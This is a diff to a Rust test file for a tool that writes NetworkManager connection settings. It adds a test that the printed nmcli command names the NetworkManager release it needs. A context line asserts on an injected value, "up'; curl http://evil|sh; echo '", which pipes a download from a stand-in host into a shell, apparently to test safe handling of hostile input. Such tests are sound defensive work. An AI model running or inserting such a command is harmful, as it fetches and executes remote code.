@@ -240,6 +240,27 @@ fn networkmanager_gets_its_own_names_one_feature_each() {
         .map(str::to_string)
         .collect();
     assert_eq!(words[3], "up'; curl http://evil|sh; echo '", "{words:?}");
+    // Features NetworkManager 1.14 already had: no release named.
+    assert!(!said.contains("needs NetworkManager"), "{said}");
+}
+
+/// channels-* came with NetworkManager 1.46: an older nmcli refuses the
+/// printed command, so the note says which release it needs.
+#[test]
+fn the_nmcli_command_names_the_networkmanager_release_it_needs() {
+    let (_t, root) = host_with("adl0", &ICE);
+    write(
+        &root,
+        "etc/NetworkManager/system-connections/uplink.nmconnection",
+        "[connection]\nid=uplink\ntype=ethernet\ninterface-name=ens2f0\n",
+    );
+    let m = knobs(&[(
+        "queues",
+        "persistence: link-file\nkind: nic-channels\ntarget: {interfaces: ens2f0}\nset: {combined: 8}\n",
+    )]);
+    let said = err(&hk(&root, m.path(), &["persist", "queues"]));
+    assert!(said.contains("ethtool.channels-combined 8"), "{said}");
+    assert!(said.contains("needs NetworkManager 1.46 or later"), "{said}");
 }
 
 #[test]
